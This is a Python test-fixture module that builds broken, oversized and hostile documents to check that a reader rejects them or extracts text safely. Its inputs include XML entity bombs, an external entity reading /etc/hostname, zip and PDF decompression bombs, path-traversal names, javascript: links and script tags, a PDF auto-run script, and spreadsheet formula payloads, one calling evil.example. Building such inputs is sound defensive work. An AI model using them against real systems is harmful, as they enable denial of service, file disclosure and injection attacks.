"""Bad files, each made by a few lines: broken, hostile, enormous. ``FINDINGS`` is what fuzzing found once and must never do again.

Never reads a file; what is large is large by repetition.
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.readers import documents
from tests.readers.documents import par, run

WORDS = "The dam at Quay Mills failed on Monday, and 12 people were hurt, the mayor said. "
LOL = (
    '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
"""Ten letters that unpack to a thousand million: "billion laughs"."""
OUTSIDE = '<!DOCTYPE l [<!ENTITY i SYSTEM "file:///etc/hostname">]>'


@dataclass(frozen=True)
class Bad:
    """A bad file.

    Args:
        name: its name; the suffix chooses the reader.
        make: its bytes.
        says: words in the line with which it is refused; "" where a worksheet or a refusal are both right, "worksheet" where it must be made.
    """

    name: str
    make: Callable[[], bytes]
    says: str = ""


def zipped(**members: bytes | str) -> bytes:
    """A compressed zip; ``_s_`` in a name is a slash, ``_d_`` a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name.replace("_s_", "/").replace("_d_", "."), data)
    return out.getvalue()


def word(xml: str, head: str = "") -> bytes:
    """A Word document whose document.xml has something before its root."""
    return zipped(word_s_document_d_xml=f"{head}<w:document {documents.W}><w:body>{xml}</w:body></w:document>")


def changed(data: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A zip with one member changed."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.namelist():
            body = old.read(member)
            new.writestr(member, change(body) if member == name else body)
    return out.getvalue()


def before_root(text: str) -> Callable[[bytes], bytes]:
    """Puts something before the root element of an XML member, after its declaration."""

    def change(body: bytes) -> bytes:
        at = body.find(b"?>") + 2 if body.startswith(b"<?xml") else 0
        return body[:at] + text.encode() + body[at:]

    return change


def wide(body: bytes) -> bytes:
    """XML in UTF-16, where a search for ``<!DOCTYPE`` finds nothing."""
    text = body.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"').replace("encoding='UTF-8'", "encoding='UTF-16'")
    return text.encode("utf-16")


def nested(open_: str, close: str, depth: int, inside: str = WORDS) -> str:
    """Elements inside elements."""
    return open_ * depth + inside + close * depth


def page(body: str, head: str = "") -> bytes:
    """A web page with an article of a few paragraphs, so that there is one to find."""
    copy = "".join(f"<p>{WORDS * 3}</p>" for _ in range(4))
    return f"<!DOCTYPE html><html><head>{head}</head><body><article><h1>Dam fails</h1>{copy}{body}</article></body></html>".encode()


def letter(body: str, head: str = "", kind: str = "text/plain") -> bytes:
    """An e-mail."""
    return f"From: A <a@example.org>\r\nSubject: Dam\r\n{head}Content-Type: {kind}\r\n\r\n{body}".encode("utf-8", "surrogateescape")


def _any_suffix() -> Iterator[Bad]:
    for suffix in ("txt", "md", "html", "docx", "odt", "pdf", "rtf", "eml"):
        yield Bad(f"empty.{suffix}", lambda: b"", " ")
        yield Bad(f"blank.{suffix}", lambda: b" \n\t\r\n" * 100, " ")
        yield Bad(f"zeros.{suffix}", lambda: bytes(4096), " ")
        yield Bad(f"binary.{suffix}", lambda: bytes(range(256)) * 64)
        yield Bad(f"zip-of-nothing.{suffix}", lambda: zipped(a="b"), " ")
        yield Bad(f"cut-word.{suffix}", lambda: documents.docx(par("Words."))[:300])
        yield Bad(f"text.{suffix}", lambda: WORDS.encode())


def _zipped() -> Iterator[Bad]:
    whole, odt = documents.docx(par(WORDS)), documents.odt(f"<text:p>{WORDS}</text:p>")
    zeros = bytes(300 * 1024 * 1024)
    yield Bad("truncated.docx", lambda: whole[:-40], "is no Word document")
    yield Bad("truncated.odt", lambda: odt[: len(odt) // 2], "is no OpenDocument text")
    yield Bad("bomb.docx", lambda: zipped(word_s_document_d_xml=zeros), "unpacks to more than")
    yield Bad("bomb.odt", lambda: zipped(content_d_xml=zeros), "unpacks to more than")
    yield Bad("many-members.odt", lambda: zipped(**{f"m{n}": "" for n in range(6_000)}), "unpacks to more than")
    yield Bad("outside-names.docx", lambda: zipped(_d__d__s__d__d__s_evil_d_txt="x", word_s_document_d_xml="<a/>"), " ")
    yield Bad("laughs.docx", lambda: word(par("&i;"), LOL), "is no Word document")
    yield Bad("laughs.odt", lambda: changed(odt, "content.xml", before_root(LOL)), "is no OpenDocument text")
    yield Bad(
        "laughs-in-notes.docx", lambda: changed(documents.docx(par(WORDS), footnotes=""), "word/footnotes.xml", before_root(LOL)), " "
    )
    yield Bad("entity.docx", lambda: word(par("&i;"), OUTSIDE), "is no Word document")
    yield Bad("entity.odt", lambda: changed(odt, "content.xml", before_root(OUTSIDE)), "is no OpenDocument text")
    yield Bad("entity-utf16.docx", lambda: changed(whole, "word/document.xml", lambda b: wide(OUTSIDE.encode() + b)), "is no Word document")
    yield Bad(
        "deep-list.odt", lambda: documents.odt(nested("<text:list><text:list-item>", "</text:list-item></text:list>", 3_000, "")), " "
    )
    deep = nested("<text:list><text:list-item>", "</text:list-item></text:list>", 3_000, f"<text:p>{WORDS}</text:p>")
    yield Bad("deep-list-and-text.odt", lambda: documents.odt(f"<text:p>{WORDS}</text:p>{deep}"), "worksheet")
    spans = nested("<text:span>", "</text:span>", 5_000)
    yield Bad("deep-span.odt", lambda: documents.odt(f"<text:p>{WORDS}{spans}</text:p>"), "worksheet")
    sections = nested("<text:section>", "</text:section>", 5_000, f"<text:p>{WORDS}</text:p>")
    yield Bad("deep-section.odt", lambda: documents.odt(f"<text:p>{WORDS}</text:p>{sections}"), "worksheet")
    boxes = nested("<text:p><drawing:text-box>", "</drawing:text-box></text:p>", 150, f"<text:p>{WORDS}</text:p>")
    yield Bad("boxes-in-boxes.odt", lambda: documents.odt(f"<text:p>{WORDS}</text:p>{boxes}"), "worksheet")
    tables = nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 600, par(WORDS))
    yield Bad("deep-table.docx", lambda: documents.docx(par(WORDS) + tables))
    rows = nested(
        "<table:table><table:table-row><table:table-cell>",
        "</table:table-cell></table:table-row></table:table>",
        300,
        f"<text:p>{WORDS}</text:p>",
    )
    yield Bad("deep-table.odt", lambda: documents.odt(f"<text:p>{WORDS}</text:p>{rows}"))
    yield Bad("many-paragraphs.docx", lambda: documents.docx("".join(par(f"{n}.") for n in range(500)) + par(WORDS)))
    yield Bad("many-paragraphs.odt", lambda: documents.odt("<text:p>a</text:p>" * 500))
    link = '<w:hyperlink r:id="rl">' + run("report") + "</w:hyperlink>"
    evil = changed(
        documents.docx(par(run(WORDS), link)),
        "word/_rels/document.xml.rels",
        lambda b: b.replace(b"https://example.org/report", b"javascript:alert(1)"),
    )
    yield Bad("javascript-link.docx", lambda: evil, "worksheet")


def _text() -> Iterator[Bad]:
    yield Bad("one-line.txt", lambda: (WORDS * 300).encode(), "worksheet")
    yield Bad("one-word.txt", lambda: b"a" * 2_000_000)
    yield Bad("brackets.txt", lambda: b"([" * 50_000)
    yield Bad("quotes.txt", lambda: "“‘\"'".encode() * 20_000)
    yield Bad("tiny-paragraphs.txt", lambda: b"a\n\n" * 1_000)
    yield Bad("commas.txt", lambda: b"said, " * 20_000)
    yield Bad("digits.txt", lambda: b"1" * 200_000 + b" people died.")
    yield Bad("digits-and-dots.txt", lambda: b"1,000." * 20_000)
    yield Bad(
        "surrogates.txt", lambda: "﻿The dam ".encode("utf-16-le") + b"\x00\xd8" * 50 + " broke on Monday.".encode("utf-16-le"), "worksheet"
    )
    yield Bad("surrogates-utf8.txt", lambda: WORDS.encode() + b"\xed\xa0\x80\xed\xb0\x80" * 20, "worksheet")
    yield Bad("right-to-left.txt", lambda: f"\u202e{WORDS}\u2066\u202c{WORDS}".encode(), "worksheet")
    yield Bad("combining.txt", lambda: ("The dam" + "\u0301" * 20_000 + " broke on Monday.").encode())
    yield Bad(
        "formulas.txt",
        lambda: "\n\n".join(f'{c}HYPERLINK("http://evil.example/?"&A1) cost 5 dollars.' for c in "=+-@\t|%").encode(),
        "worksheet",
    )
    yield Bad(
        "script.txt",
        lambda: f"<script>alert(1)</script>\n\nBy <img src=x onerror=alert(1)>\n\n{WORDS}</script><script>alert(2)</script>".encode(),
        "worksheet",
    )
    yield Bad("template.txt", lambda: f"{{{{ 7 * 7 }}}} {{% raw %}} ${{x}} {WORDS}".encode(), "worksheet")
    yield Bad("old-mac.txt", lambda: WORDS.encode() + b"\r\r" + WORDS.encode(), "worksheet")
    yield Bad("windows.txt", lambda: f"Dam fails\r\n\r\nBy A B\r\n\r\n{WORDS}\r\n".encode("cp1252"), "worksheet")
    yield Bad("deep-quotes.md", lambda: (b">" * 3_000 + WORDS.encode() + b"\n") * 3)
    yield Bad("deep-list.md", lambda: "\n".join("  " * n + "- a" for n in range(600)).encode() + b"\n\n" + WORDS.encode())
    yield Bad("brackets.md", lambda: b"[" * 50_000)
    yield Bad("brackets-closed.md", lambda: b"[" * 5_000 + b"a" + b"](b)" * 5_000)
    yield Bad("stars.md", lambda: b"**a *" * 10_000)
    yield Bad("ticks.md", lambda: b"".join(b"`" * n for n in range(1, 700)))
    yield Bad("links.md", lambda: f"{WORDS}[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd)".encode(), "worksheet")
    yield Bad(
        "front.md",
        lambda: f"---\ntitle: <script>alert(1)</script>\nauthor: =cmd|' /C calc'!A0\nurl: javascript:alert(1)\n---\n\n{WORDS}".encode(),
        "worksheet",
    )
    yield Bad(
        "front-bomb.md",
        lambda: (
            b"---\na: &a [x,x]\n"
            + b"".join(b"%c: &%c [*%c,*%c]\n" % (n + 1, n + 1, n, n) for n in range(97, 121))
            + b"---\n"
            + WORDS.encode()
        ),
    )
    yield Bad("table.md", lambda: b"|a" * 3_000 + b"|\n" + b"|-" * 3_000 + b"|\n" + b"|b" * 3_000 + b"|\n\n" + WORDS.encode())


def _markup() -> Iterator[Bad]:
    for tag in ("div", "blockquote", "b", "span", "a href=http://x.example/", "ul><li", "table><tr><td", "font"):
        shut = "".join(f"</{t.split()[0]}>" for t in reversed(tag.split("><")))
        yield Bad(f"deep-{tag[:5].strip('>< ')}.html", lambda t=tag, s=shut: page(nested(f"<{t}>", s, 5_000)))
        yield Bad(f"deeper-{tag[:5].strip('>< ')}.html", lambda t=tag, s=shut: page(nested(f"<{t}>", s, 190)))
    yield Bad("open.html", lambda: page("<div>" * 20_000))
    yield Bad("links.html", lambda: page("".join(f'<p>See <a href="https://x.example/{n}">the report</a> now.</p>' for n in range(600))))
    yield Bad("attributes.html", lambda: page("<p " + " ".join(f"a{n}=b" for n in range(20_000)) + ">x</p>"))
    yield Bad("comment.html", lambda: page("<!--" * 20_000))
    yield Bad("cut.html", lambda: page(WORDS)[:-150] + b"<p")
    yield Bad(
        "links-script.html",
        lambda: page(
            '<p>Read <a href="javascript:alert(1)">the report</a> of 5 May.</p>', '<link rel="canonical" href="javascript:alert(2)">'
        ),
        "worksheet",
    )
    yield Bad(
        "head.html",
        lambda: page("", '<title>&lt;script>alert(1)</title><meta name="author" content="=1+1"><meta name="date" content="9999-99-99">'),
        "worksheet",
    )
    yield Bad("entity.html", lambda: f"<?xml version='1.0'?>{OUTSIDE}<html><body><p>&i;{WORDS * 9}</p></body></html>".encode())
    yield Bad("charset.html", lambda: page(WORDS, "<meta charset='base64'>"))
    yield Bad("utf7.html", lambda: page("+ADw-script+AD4-", "<meta charset='utf-7'>"))
    yield Bad("no-plane.rtf", lambda: b"{\\rtf1 " + b"{" * 100_000)
    yield Bad("closes.rtf", lambda: b"{\\rtf1 " + b"}" * 1_000 + WORDS.encode())
    yield Bad("unicode.rtf", lambda: b"{\\rtf1 \\u99999999? \\u-99999? \\ud800? \\uc999999999 " + WORDS.encode() + b"}")
    yield Bad(
        "codepage.rtf", lambda: b"{\\rtf1\\ansi\\ansicpg99999 {\\fonttbl{\\f0\\fcharset999 A;}}\\f0 caf\\'e9 \\'zz " + WORDS.encode() + b"}"
    )
    yield Bad("words.rtf", lambda: b"{\\rtf1 " + b"\\a" * 50_000 + b" x}")
    yield Bad("bin.rtf", lambda: b"{\\rtf1 \\bin99999999999 " + WORDS.encode() + b"}")
    yield Bad(
        "field.rtf",
        lambda: b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "javascript:alert(1)"}{\\fldrslt the report}} ' + WORDS.encode() + b"}",
    )
    yield Bad("parts-in-parts.eml", _parts_in_parts)
    yield Bad("no-end.eml", lambda: letter("--x\r\nContent-Type: text/plain\r\n\r\n" + WORDS, kind="multipart/mixed; boundary=x"))
    yield Bad("charset.eml", lambda: letter(WORDS, kind="text/plain; charset=no-such-thing"), "worksheet")
    yield Bad("charset-null.eml", lambda: letter(WORDS, kind='text/plain; charset="\0"'))
    yield Bad("encoding.eml", lambda: letter("!!!!", "Content-Transfer-Encoding: base64\r\n"))
    yield Bad("quoted.eml", lambda: letter("=ZZ=3" + WORDS, "Content-Transfer-Encoding: quoted-printable\r\n"))
    yield Bad("head.eml", lambda: letter(WORDS, "Date: Mon, 99 Foo 99999999999 99:99:99 +9999999\r\n"), "worksheet")
    yield Bad("names.eml", lambda: letter(WORDS, "From: =?utf-8?b?====?= <<<>>\r\nSubject: =?x?q?=FF?=\r\n"))
    yield Bad(
        "attached.eml",
        lambda: letter(
            f'--x\r\n\r\n{WORDS}\r\n--x\r\nContent-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nx\r\n--x--',
            kind="multipart/mixed; boundary=x",
        ),
        "worksheet",
    )
    yield Bad("long-head.eml", lambda: letter(WORDS, "X-A: " + "(" * 20_000 + "\r\nTo: " + '"' * 5_000 + "," * 5_000 + "\r\n"))
    yield Bad("body.html.eml", lambda: letter(nested("<div>", "</div>", 5_000), kind="text/html"))


def _parts_in_parts() -> bytes:
    head = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n" for n in range(1_500))
    return f"From: a@example.org\r\nSubject: x\r\n{head}Content-Type: text/plain\r\n\r\n{WORDS}".encode()


def _portable() -> Iterator[Bad]:
    whole = documents.pdf()
    yield Bad("cut.pdf", lambda: whole[: len(whole) // 2])
    yield Bad("head.pdf", lambda: whole[:30], "is no PDF")
    yield Bad("no-table.pdf", lambda: whole.replace(b"xref", b"xxxx"))
    yield Bad("loop.pdf", _loop)
    yield Bad("page-count.pdf", lambda: whole.replace(b"/Count 1", b"/Count 999999999"))
    yield Bad("box.pdf", lambda: whole.replace(b"[ 0 0 595 842 ]", b"[ 0 0 0 0 ]").replace(b"[ 0 0 595", b"[ 9e99 0 -5"))
    yield Bad("script.pdf", lambda: whole.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"))


def _loop() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>endobj\n"
        b"trailer<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF"
    )


def packed_pdf(times: int) -> bytes:
    """A PDF whose one page holds 600 MB, packed so many times."""
    body = b"BT /F1 12 Tf 50 700 Td "
    pack = zlib.compressobj(9)
    body = pack.compress(body) + b"".join(pack.compress(b"(a b) Tj 0 -12 Td " * 60_000) for _ in range(600)) + pack.flush()
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    chain = b"/FlateDecode " * times
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
        b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n4 0 obj<</Length %d/Filter[%s]>>stream\n%s\nendstream endobj\n"
        b"trailer<</Root 1 0 R>>\n%%%%EOF" % (len(body), chain, body)
    )


def forms_pdf(levels: int, calls: int) -> bytes:
    """A PDF whose page draws a form that draws the next one so many times, and so on."""
    last = 9 + levels
    forms = b""
    for n in range(10, last + 1):
        body = b"BT /F1 9 Tf 50 600 Td (again) Tj ET" + b" /X Do" * (calls if n < last else 0)
        named = b"/XObject<</X %d 0 R>>" % (n + 1) if n < last else b""
        forms += b"%d 0 obj<</Subtype/Form/BBox[0 0 600 800]/Resources<</Font<</F1 5 0 R>>%s>>/Length %d>>stream\n%s\nendstream endobj\n" % (
            n, named, len(body), body,
        )  # fmt: skip
    body = b"BT /F1 12 Tf 50 700 Td (The dam at Quay Mills failed on Monday.) Tj ET /X Do"
    return (
        b"%%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>/XObject<</X 10 0 R>>>>>>endobj\n"
        b"5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n4 0 obj<</Length %d>>stream\n%s\nendstream endobj\n"
        b"%strailer<</Root 1 0 R>>\n%%%%EOF" % (len(body), body, forms)
    )


def _shapes() -> str:
    return nested("<text:p><drawing:custom-shape><text:p>z</text:p>", "</drawing:custom-shape></text:p>", 3_000, "x")


FINDINGS: tuple[Bad, ...] = (
    Bad(
        "articles-in-a-row.txt",
        lambda: f"said Councillor Ada {'a ' * 60}Brandt, who voted against it. She said 12 died.".encode(),
        "worksheet",
    ),
    Bad("up-to.txt", lambda: b"up to " * 6_000),
    Bad(
        "adjectives.txt",
        lambda: b"The new big old last first other same many few such own only next most more less very long little good " * 200,
    ),
    Bad("long-from.eml", lambda: b"From: " + b'"a\\"' * 20_000 + b"\r\nSubject: x\r\n\r\n" + WORDS.encode(), "worksheet"),
    Bad(
        "far-year.eml",
        lambda: b"From: Ann\r\nDate: Mon, 02 Mar " + b"2" * 40 + b"026 09:00:00 +0000\r\nSubject: x\r\n\r\n" + WORDS.encode(),
        "worksheet",
    ),
    Bad("fields.rtf", lambda: b"{\\rtf1 " + b"{\\field{\\*\\fldinst{" * 30_000 + WORDS.encode()),
    Bad("links.rtf", lambda: b"{\\rtf1 " + b'HYPERLINK "x"\\fldrslt {{{{' * 30_000 + WORDS.encode()),
    Bad("deleted.rtf", lambda: b"{\\rtf1 " + b"{\\deleted x" * 30_000 + WORDS.encode()),
    Bad("deleted-in-a-row.rtf", lambda: b"{\\rtf1 " + b"{\\deleted x}\\par " * 30_000 + WORDS.encode() + b"}", "worksheet"),
    Bad("shapes.rtf", lambda: b"{\\rtf1 " + b"{\\shp{\\shptxt x" * 30_000 + WORDS.encode()),
    Bad("boxes.rtf", lambda: b"{\\rtf1 " + b"{\\shp{\\shptxt x}}" * 30_000 + WORDS.encode() + b"}", "worksheet"),
    Bad("notes.rtf", lambda: b"{\\rtf1 " + WORDS.encode() + b"{\\footnote x" * 30_000),
    Bad("fonts.rtf", lambda: b"{\\rtf1{\\fonttbl" + b"\\f1" * 100_000 + b";}" + WORDS.encode() + b"}", "table of fonts"),
    Bad("fonts-charset.rtf", lambda: b"{\\rtf1{\\fonttbl" + b"\\f1\\fcharset0" * 4_000 + b"}" + WORDS.encode() + b"}"),
    Bad("bomb.pdf", lambda: packed_pdf(1), "unpacks to more than 128 MB"),
    Bad("bomb-in-bomb.pdf", lambda: packed_pdf(2), "unpacks to more than 128 MB"),
    Bad("forms.pdf", lambda: forms_pdf(30, 2), "draws more than 100000 forms"),
    Bad("few-forms.pdf", lambda: forms_pdf(8, 2), "worksheet"),
    Bad("objects.pdf", lambda: b"%PDF-1.4\n" + b"1 0 obj<</Subtype/Form>>stream\n/X Do " * 60_000),
    Bad("chant.txt", lambda: WORDS.encode() * 600, "worksheet"),
    Bad(
        "fields.docx",
        lambda: documents.docx(par(run(WORDS)) + f"<w:p>{nested('<w:fldSimple>', '</w:fldSimple>', 20_000, run('5 May'))}</w:p>"),
    ),
    Bad("many-fields.docx", lambda: documents.docx(par(run(WORDS), *[f"<w:fldSimple>{run('5 ')}</w:fldSimple>"] * 1_000))),
    Bad("shapes-in-shapes.odt", lambda: documents.odt(f"<text:p>{WORDS}</text:p>{_shapes()}"), "worksheet"),
    Bad("no-names.docx", lambda: documents.docx(par(WORDS)).replace(b"officeDocument/2006", b"officeDocument/2007")),
    Bad("empty-part.docx", lambda: changed(documents.docx(par(WORDS), footnotes=""), "word/footnotes.xml", lambda b: b"")),
)

ARTICLES = (*_any_suffix(), *_zipped(), *_text(), *_markup(), *_portable(), *FINDINGS)
"""Every one: a worksheet, or one line and exit code 2."""
